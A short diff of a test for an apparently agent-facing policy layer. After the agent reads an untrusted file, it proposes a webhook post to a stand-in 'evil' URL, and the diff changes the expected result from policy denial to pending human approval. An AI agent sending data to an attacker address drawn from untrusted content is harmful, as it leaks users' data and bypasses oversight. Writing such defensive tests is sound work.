@@ -32,8 +32,8 @@ test("an address that the agent made up is no better for having been in a file",
   const read = await session.propose("files.read", { path: "a.txt" });
   t.match(read, { label: { integrity: "untrusted" } });
   t.match(await session.propose("webhook.post", { url: evil, body: "x" }), {
-    status: "refused",
-    code: "POLICY_DENIED",
+    status: "pending",
+    code: "APPROVAL_REQUIRED",
   });
 });
 
